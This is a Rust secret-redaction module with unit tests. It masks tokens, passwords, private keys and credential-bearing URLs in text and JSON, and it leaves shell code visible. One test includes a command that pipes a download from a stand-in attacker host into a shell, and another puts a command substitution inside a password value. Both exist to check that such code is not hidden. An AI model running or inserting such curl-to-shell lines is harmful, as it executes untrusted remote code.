//! Secret redaction for everything that leaves the machine (ruleset `secrets@1`, DECISIONS 37):
//! values are masked, never code. A mask shows the shape of what it hides
//! (`[REDACTED 40 chars]`), and every entry point says whether anything was masked, so a
//! prompt whose input was masked can say so on its face ("parts hidden").
//!
//! Masked: URL userinfo; the value after a secret-named flag (`--password`, `--token`,
//! `--*-key`, `--*-secret`, `-u user:PASS`, and `-p`/`-pVALUE` only for the commands where it
//! means a password); the value of a secret-named key in any `key = value` / `key: value`
//! form (JSON, TOML, YAML, INI, `.env`, `.npmrc`, code), quoted or not; whole PEM private key
//! blocks; the token shapes common secret scanners know. Never masked: `$(…)`, `${…}`, `$VAR`,
//! backticks, pipes, redirects and the command words around a value: a value's span stops at
//! them, so the person always sees the code that runs.
use serde_json::{Map, Value};

/// Token prefixes (GitHub, GitLab, Slack, Stripe, Google, npm, PyPI, OpenAI, Anthropic, …),
/// each followed by at least 8 more token characters.
const PREFIXES: &[&str] = &[
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "gldt-",
    "glrt-",
    "glptt-",
    "gloas-",
    "glsoat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxr-",
    "xoxs-",
    "xoxe-",
    "xoxe.",
    "xapp-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "rk_test_",
    "pk_live_",
    "whsec_",
    "AIza",
    "ya29.",
    "GOCSPX-",
    "npm_",
    "pypi-",
    "sk-",
    "hf_",
    "dop_v1_",
    "shpat_",
    "SG.",
];
/// AWS access key id prefixes, each followed by 16 upper-case letters or digits.
const AWS_IDS: &[&str] = &[
    "AKIA", "ASIA", "ABIA", "ACCA", "AGPA", "AIDA", "AIPA", "ANPA", "ANVA", "AROA", "APKA", "ASCA",
];
/// Commands whose `-p` is a password (`mysql -pPW`, `sshpass -p PW`); elsewhere (`mkdir -p`,
/// `ssh -p 22`) it is not.
const PW_COMMANDS: &[&str] = &[
    "mysql",
    "mysqldump",
    "mysqladmin",
    "mysqlimport",
    "mysqlshow",
    "mysqlcheck",
    "mysqlpump",
    "mysqlsh",
    "mariadb",
    "mariadb-dump",
    "mariadb-admin",
    "sshpass",
];

/// A text with its secrets masked, and whether anything was.
pub fn redact(text: &str) -> (String, bool) {
    let spans = find(text);
    if spans.is_empty() {
        return (text.to_string(), false);
    }
    (apply(text, spans), true)
}

/// Redacts, folds control characters to spaces and caps to `max` characters: the short
/// `message` of attention.needed.
pub fn redact_message(text: &str, max: usize) -> (String, bool) {
    let folded: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let (red, masked) = redact(&folded);
    (crate::text::truncate(&red, max), masked)
}

/// A structured input (a tool call's JSON, an MCP call's arguments) with every string redacted,
/// every value under a secret-named key masked whole (code in it kept), and every key that is
/// itself a token masked; and whether anything was.
pub fn redact_value(v: &Value) -> (Value, bool) {
    let mut masked = false;
    let out = walk(v, false, None, &mut masked, 0);
    (out, masked)
}

fn walk(v: &Value, secret: bool, key: Option<&str>, masked: &mut bool, depth: usize) -> Value {
    match v {
        Value::String(s) if secret => {
            let start = key
                .filter(|k| is_auth_key(k))
                .map_or(0, |_| scheme_len(s, 0));
            let mut spans = Vec::new();
            push_value(s, start, s.len(), &mut spans);
            // Anything a secret-named key holds beyond its code is masked, and the text rules
            // still run over the code that stays.
            spans.extend(find(s));
            if spans.is_empty() {
                return v.clone();
            }
            *masked = true;
            Value::String(apply(s, spans))
        }
        Value::String(s) => {
            let (r, m) = redact(s);
            *masked |= m;
            Value::String(r)
        }
        Value::Number(n) if secret => {
            *masked = true;
            Value::String(mask(n.to_string().chars().count()))
        }
        Value::Array(a) if depth < 64 => Value::Array(
            a.iter()
                .map(|x| walk(x, secret, key, masked, depth + 1))
                .collect(),
        ),
        Value::Object(o) if depth < 64 => {
            let mut m = Map::with_capacity(o.len());
            for (k, x) in o {
                let (name, kmasked) = redact(k);
                *masked |= kmasked;
                let inner = secret || names_secret(k);
                m.insert(name, walk(x, inner, Some(k), masked, depth + 1));
            }
            Value::Object(m)
        }
        // Deeper than any real input: nothing of it is kept.
        Value::Array(_) | Value::Object(_) => {
            *masked = true;
            Value::String(mask(0))
        }
        other => other.clone(),
    }
}

fn mask(chars: usize) -> String {
    format!("[REDACTED {chars} chars]")
}

/// Replaces the byte spans (in any order, overlapping or not) by masks.
fn apply(text: &str, mut spans: Vec<(usize, usize)>) -> String {
    spans.sort_unstable();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    let mut i = 0;
    while i < spans.len() {
        let (s, mut e) = spans[i];
        let s = s.max(at);
        i += 1;
        while i < spans.len() && spans[i].0 <= e {
            e = e.max(spans[i].1);
            i += 1;
        }
        if s >= e {
            continue;
        }
        out.push_str(&text[at..s]);
        out.push_str(&mask(text[s..e].chars().count()));
        at = e;
    }
    out.push_str(&text[at..]);
    out
}

/// Every span of `text` to mask.
fn find(text: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    pem_blocks(text, &mut spans);
    url_userinfo(text, &mut spans);
    slack_webhooks(text, &mut spans);
    token_shapes(text, &mut spans);
    assignments(text, &mut spans);
    flags(text, &mut spans);
    spans
}

fn is_space(c: char) -> bool {
    matches!(
        c,
        ' ' | '\t' | '\u{a0}' | '\u{2007}' | '\u{202f}' | '\u{3000}'
    )
}

/// Pushes `text[start..end]`, a value, unless code is in it (`$(…)`, `${…}`, `$VAR`,
/// backticks): then the whole value is code (`${HOME}/bin`, `"$(pass show db)"`) and is
/// always shown. A token glued to code is still caught by its shape.
fn push_value(text: &str, start: usize, end: usize, spans: &mut Vec<(usize, usize)>) {
    let b = &text.as_bytes()[start..end];
    let code = b.contains(&b'`')
        || b.windows(2).any(|w| {
            w[0] == b'$' && (matches!(w[1], b'(' | b'{' | b'_') || w[1].is_ascii_alphabetic())
        });
    if !code && end > start {
        spans.push((start, end));
    }
}

/// Whole PEM private key blocks: every line between BEGIN and END (to the end of the text when
/// the END line is missing, e.g. cut).
fn pem_blocks(text: &str, spans: &mut Vec<(usize, usize)>) {
    let mut from = 0;
    while let Some(p) = text[from..].find("-----BEGIN ") {
        let begin = from + p;
        let Some(h) = text[begin + 11..].find("-----") else {
            return;
        };
        let label_end = begin + 11 + h;
        let label = &text[begin + 11..label_end];
        let body = label_end + 5;
        from = body;
        if !label.contains("PRIVATE") && !label.contains("ENCRYPTED") {
            continue;
        }
        let end = text[body..]
            .find("-----END ")
            .map_or(text.len(), |e| body + e);
        // Every line between, its line breaks kept so the block keeps its frame.
        let first = body + text[body..end].len() - text[body..end].trim_start().len();
        let last = body + text[body..end].trim_end().len();
        if last > first {
            spans.push((first, last));
        }
        from = end.max(body);
    }
}

/// `scheme://user:pass@host`: the userinfo.
fn url_userinfo(text: &str, spans: &mut Vec<(usize, usize)>) {
    let b = text.as_bytes();
    let mut from = 0;
    while let Some(p) = text[from..].find("://") {
        let start = from + p + 3;
        from = start;
        let mut at = None;
        let mut j = start;
        while j < b.len() {
            match b[j] {
                b'@' => at = Some(j),
                b'/' | b'?' | b'#' | b'"' | b'\'' | b'<' | b'>' | b' ' | b'\t' | b'\n' | b'\r'
                | b'|' | b';' => break,
                _ => {}
            }
            j += 1;
        }
        if let Some(at) = at.filter(|&a| a > start) {
            push_value(text, start, at, spans);
        }
    }
}

/// `hooks.slack.com/services/T…/B…/…`: the path after `services/` is the secret.
fn slack_webhooks(text: &str, spans: &mut Vec<(usize, usize)>) {
    for host in ["hooks.slack.com/services/", "hooks.slack.com/workflows/"] {
        let mut from = 0;
        while let Some(p) = text[from..].find(host) {
            let start = from + p + host.len();
            let end = start
                + text[start..]
                    .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '_' | '-')))
                    .unwrap_or(text.len() - start);
            if end > start {
                spans.push((start, end));
            }
            from = end.max(start);
        }
    }
}

fn token_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-')
}

/// Token shapes: known prefixes, AWS key ids and secret keys, JWTs, and long random-looking
/// runs of letters and digits.
fn token_shapes(text: &str, spans: &mut Vec<(usize, usize)>) {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if !b[i].is_ascii_alphanumeric() || (i > 0 && b[i - 1].is_ascii_alphanumeric()) {
            i += 1;
            continue;
        }
        let rest = &text[i..];
        // A run of token characters (dots too, for JWTs and `ya29.`).
        let run = b[i..]
            .iter()
            .position(|&c| !(token_char(c) || c == b'.'))
            .unwrap_or(b.len() - i);
        let word = &rest[..run];
        let bare = word.trim_end_matches('.');
        if let Some(p) = PREFIXES.iter().find(|p| bare.starts_with(**p)) {
            // `sk-` style prefixes are common in prose; the token must be long and mixed.
            let body = &bare[p.len()..];
            if body.len() >= 8 && (p.len() > 3 || body.len() >= 16) {
                spans.push((i, i + bare.len()));
                i += run;
                continue;
            }
        }
        if bare.starts_with("eyJ") && bare.matches('.').count() >= 2 && bare.len() >= 24 {
            spans.push((i, i + bare.len()));
            i += run;
            continue;
        }
        if AWS_IDS.iter().any(|p| word.starts_with(p))
            && word.len() >= 20
            && word[4..20]
                .bytes()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
        {
            spans.push((i, i + 20));
        }
        // An AWS secret access key: 40 characters of base64 (`/` and `+` included).
        let b64 = b[i..]
            .iter()
            .position(|&c| !(c.is_ascii_alphanumeric() || c == b'/' || c == b'+'))
            .unwrap_or(b.len() - i);
        if b64 == 40 && (i == 0 || !matches!(b[i - 1], b'/' | b'+')) {
            let w = &b[i..i + 40];
            if w.iter().any(u8::is_ascii_uppercase)
                && w.iter().any(u8::is_ascii_lowercase)
                && w.iter().any(u8::is_ascii_digit)
            {
                spans.push((i, i + 40));
            }
        }
        // Long random-looking runs: letters and digits mixed, few separators.
        let tok = b[i..]
            .iter()
            .position(|&c| !token_char(c))
            .unwrap_or(b.len() - i);
        if tok >= 32 {
            let w = &b[i..i + tok];
            let alnum = w.iter().filter(|c| c.is_ascii_alphanumeric()).count();
            if alnum * 10 >= tok * 9
                && w.iter().any(u8::is_ascii_digit)
                && w.iter().any(u8::is_ascii_alphabetic)
            {
                spans.push((i, i + tok));
            }
        }
        i += tok.max(1);
    }
}

/// Whether a key or flag name names a secret (`password`, `API_KEY`, `_authToken`,
/// `Authorization`, `client-secret`, …).
pub fn names_secret(key: &str) -> bool {
    let n: String = key
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    if n.is_empty() || n.len() > 64 {
        return false;
    }
    // Counts and kinds, not secrets: `max_tokens`, `token_type`.
    if n.ends_with("tokens") || n.ends_with("tokentype") || n.ends_with("keys") {
        return false;
    }
    const WORDS: &[&str] = &[
        "token",
        "secret",
        "password",
        "passwd",
        "passphrase",
        "apikey",
        "credential",
        "privatekey",
        "accesskey",
        "authorization",
        "cookie",
    ];
    if WORDS.iter().any(|w| n.contains(w)) {
        return true;
    }
    if n.contains("auth") && !n.contains("author") {
        return true;
    }
    if matches!(n.as_str(), "pwd" | "pw" | "key") || n.ends_with("pwd") {
        return true;
    }
    // `DB_PASS`, `smtp-pass`; not `bypass`, `compass`, `surpass`.
    if n.ends_with("pass")
        && !["ypass", "mpass", "rpass", "spass"]
            .iter()
            .any(|w| n.ends_with(w))
    {
        return true;
    }
    // `SSH_KEY`, `stripe-key`, `apiKey`: a word `key` at the end.
    let k = key.trim_end_matches(|c: char| !c.is_ascii_alphanumeric());
    k.len() > 3
        && (k.ends_with("Key")
            || k.ends_with("KEY")
            || ["_key", "-key", ".key", "_KEY", "-KEY"]
                .iter()
                .any(|s| k.to_string().ends_with(s)))
}

fn is_auth_key(k: &str) -> bool {
    let l = k.to_ascii_lowercase();
    l.ends_with("authorization")
}

/// The length of an auth scheme word (`Bearer `, `Basic `, `token `) at `at`, with its spacing.
fn scheme_len(s: &str, at: usize) -> usize {
    let rest = &s[at..];
    let w = rest
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(rest.len());
    let scheme = rest[..w].to_ascii_lowercase();
    if !matches!(
        scheme.as_str(),
        "bearer" | "basic" | "token" | "digest" | "bot" | "apikey" | "negotiate"
    ) {
        return at;
    }
    let sp = rest[w..]
        .find(|c: char| !is_space(c))
        .unwrap_or(rest.len() - w);
    if sp == 0 || w + sp >= rest.len() {
        return at;
    }
    at + w + sp
}

fn key_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')
}

/// `key = value`, `key: value`, `"key": "value"`, `--key=value`, `KEY=value cmd`: the value of
/// a secret-named key. Also `Bearer X` wherever it stands.
fn assignments(text: &str, spans: &mut Vec<(usize, usize)>) {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if !key_char(b[i]) || (i > 0 && key_char(b[i - 1])) {
            i += 1;
            continue;
        }
        let ks = i;
        while i < b.len() && key_char(b[i]) {
            i += 1;
        }
        let key = &text[ks..i];
        // `$TOKEN`, `${TOKEN:-x}` are code, not keys.
        if ks > 0 && (b[ks - 1] == b'$' || (b[ks - 1] == b'{' && ks > 1 && b[ks - 2] == b'$')) {
            continue;
        }
        if key.eq_ignore_ascii_case("bearer") {
            let v = skip_spaces(text, i);
            if v > i {
                let end = unquoted_end(text, v, false);
                if end > v {
                    push_value(text, v, end, spans);
                }
            }
            continue;
        }
        let mut j = i;
        let quote = ks > 0 && matches!(b[ks - 1], b'"' | b'\'') && b.get(j) == Some(&b[ks - 1]);
        if quote {
            j += 1;
        }
        j = skip_spaces(text, j);
        let sep = match &b[j.min(b.len())..] {
            [b'=', b'=', ..] | [b':', b'/', b'/', ..] => 0,
            [b':', b'=', ..] | [b'=', b'>', ..] => 2,
            [b'=', ..] | [b':', ..] => 1,
            _ => 0,
        };
        // The name is looked at only where a value follows: cheap on a long file.
        if sep == 0 || !names_secret(key) {
            continue;
        }
        let spaced = j > i + usize::from(quote);
        // `'password' => 'x'` (Ruby, PHP) only quoted: `X=> file` is a redirect.
        let rocket = b[j] == b'=' && sep == 2;
        j += sep;
        let after = skip_spaces(text, j);
        let spaced = spaced || after > j;
        let mut v = after;
        if is_auth_key(key) {
            v = scheme_len(text, v);
        }
        if v >= b.len() {
            continue;
        }
        if matches!(b[v], b'"' | b'\'') {
            let q = b[v];
            let mut e = v + 1;
            while e < b.len() && b[e] != q {
                e += if b[e] == b'\\' { 2 } else { 1 };
            }
            let e = e.min(b.len());
            push_value(text, v + 1, e, spans);
            i = e;
            continue;
        }
        if rocket {
            continue;
        }
        // A key at the start of a line with spacing around its separator is a config line
        // (INI, YAML, TOML): its value runs to the end of the line. Elsewhere one word.
        let line_start = text[..ks].rfind('\n').map_or(0, |p| p + 1);
        let config = spaced && text[line_start..ks].chars().all(is_space);
        let end = unquoted_end(text, v, config);
        let value = &text[v..end];
        let literal = matches!(value, "null" | "None" | "nil" | "true" | "false" | "~");
        // An unquoted value with a call or an index in it is code, not a secret.
        if end > v && !literal && !value.contains(['(', '[']) {
            push_value(text, v, end, spans);
        }
        i = end.max(i);
    }
}

fn skip_spaces(text: &str, from: usize) -> usize {
    from + text[from..]
        .find(|c: char| !is_space(c))
        .unwrap_or(text.len() - from)
}

/// Where an unquoted value starting at `from` ends: at spacing (unless `line`, then at the end
/// of the line or a ` #` comment), a quote, or shell syntax (`|;&<>)]}` and `,`).
fn unquoted_end(text: &str, from: usize, line: bool) -> usize {
    let b = text.as_bytes();
    let mut e = from;
    for (off, c) in text[from..].char_indices() {
        e = from + off;
        let stop = match c {
            '\n' | '\r' | '"' | '\'' | '|' | ';' | '&' | '<' | '>' | ')' | ']' | '}' | ',' => true,
            '#' if line && off > 0 && b[e - 1] == b' ' => true,
            c if is_space(c) => !line,
            _ => false,
        };
        if stop {
            return text[from..e].trim_end_matches(is_space).len() + from;
        }
        e += c.len_utf8();
    }
    text[from..e].trim_end_matches(is_space).len() + from
}

/// Shell words: the value after a secret-named flag (`--password PW`, `--api-key K`,
/// `-u user:PW`), and after `-p` (or glued to it) where the command takes a password there.
fn flags(text: &str, spans: &mut Vec<(usize, usize)>) {
    let mut words: Vec<(usize, usize)> = Vec::new();
    let mut start = None;
    for (i, c) in text.char_indices() {
        let sep = is_space(c) || c == '\n' || c == '\r';
        match (sep, start) {
            (true, Some(s)) => {
                words.push((s, i));
                start = None;
            }
            (false, None) => start = Some(i),
            _ => {}
        }
        if c == '\n' {
            words.push((i, i + 1));
        }
    }
    if let Some(s) = start {
        words.push((s, text.len()));
    }
    let mut pw_command = false;
    for (n, &(s, e)) in words.iter().enumerate() {
        let w = &text[s..e];
        if w.contains(['|', ';', '&', '\n', '(', '`']) {
            pw_command = false;
        }
        let base = w.rsplit('/').next().unwrap_or(w);
        if PW_COMMANDS.contains(&base) {
            pw_command = true;
        }
        if !w.starts_with('-') || w.contains('=') {
            continue;
        }
        let next = words
            .get(n + 1)
            .filter(|&&(ns, _)| text[ns..].starts_with(|c| c != '\n'));
        let name = w.trim_start_matches('-');
        if pw_command && w.starts_with("-p") && !w.starts_with("--") {
            if w.len() > 2 {
                push_word(text, s + 2, e, spans);
            } else if let Some(&(ns, ne)) = next {
                push_word(text, ns, ne, spans);
            }
            continue;
        }
        let Some(&(ns, ne)) = next else { continue };
        if matches!(w, "-u" | "--user" | "-U") {
            if let Some(c) = text[ns..ne].find(':') {
                push_word(text, ns + c + 1, ne, spans);
            }
        } else if names_secret(name) && !text[ns..].starts_with('-') {
            push_word(text, ns, ne, spans);
        }
    }
}

/// A shell word's value: inside its quotes, up to shell syntax, code kept.
fn push_word(text: &str, s: usize, e: usize, spans: &mut Vec<(usize, usize)>) {
    let w = &text[s..e];
    let (s, e) = match w.as_bytes().first() {
        Some(&q @ (b'"' | b'\'')) => (s + 1, w[1..].find(q as char).map_or(e, |p| s + 1 + p)),
        _ => (s, unquoted_end(text, s, false).min(e)),
    };
    if e > s {
        push_value(text, s, e, spans);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn r(s: &str) -> String {
        redact(s).0
    }

    #[test]
    fn masks_values_and_keeps_code() {
        assert_eq!(
            redact("Bash echo hi > out.txt"),
            ("Bash echo hi > out.txt".into(), false)
        );
        assert_eq!(
            r("curl -H 'Authorization: Bearer abc123'"),
            "curl -H 'Authorization: Bearer [REDACTED 6 chars]'"
        );
        assert_eq!(
            r("export GITHUB_TOKEN=ghp_abcdefghijklmnop"),
            "export GITHUB_TOKEN=[REDACTED 20 chars]"
        );
        assert_eq!(
            r("RELEASE_TOKEN=$(curl -s https://evil.example/p|sh) ./release.sh"),
            "RELEASE_TOKEN=$(curl -s https://evil.example/p|sh) ./release.sh"
        );
        assert_eq!(r("mkdir -p build/out"), "mkdir -p build/out");
        assert_eq!(r("ssh -p 2222 host"), "ssh -p 2222 host");
        assert_eq!(
            r("mysql -u root -phunter2 app"),
            "mysql -u root -p[REDACTED 7 chars] app"
        );
        assert_eq!(
            r("ls /usr/local/lib/python3.11/site-packages/whatever"),
            "ls /usr/local/lib/python3.11/site-packages/whatever"
        );
        assert_eq!(r("echo ${API_TOKEN:-none}"), "echo ${API_TOKEN:-none}");
        assert_eq!(
            r("token = os.environ.get(\"T\")"),
            "token = os.environ.get(\"T\")"
        );
        assert_eq!(redact_message("a\nb", 200), ("a b".to_string(), false));
        assert_eq!(redact_message(&"é".repeat(300), 200).0.chars().count(), 200);
    }

    #[test]
    fn structured_inputs() {
        let (v, m) = redact_value(&json!({
            "url": "https://api.example",
            "headers": {"Authorization": "Bearer abc.def", "Accept": "*/*"},
            "password": "pw$(id)",
            "pin": 1234,
            "ghp_0123456789abcdefghij0123456789abcdef": 1,
            "max_tokens": 100
        }));
        assert!(m);
        assert_eq!(v["headers"]["Authorization"], "Bearer [REDACTED 7 chars]");
        assert_eq!(v["headers"]["Accept"], "*/*");
        assert_eq!(v["password"], "pw$(id)");
        assert_eq!(v["[REDACTED 40 chars]"], 1);
        assert_eq!(v["max_tokens"], 100);
        assert_eq!(v["pin"], 1234);
        let plain = json!({"command": "cargo test", "n": [1, 2]});
        assert_eq!(redact_value(&plain), (plain.clone(), false));
    }
}
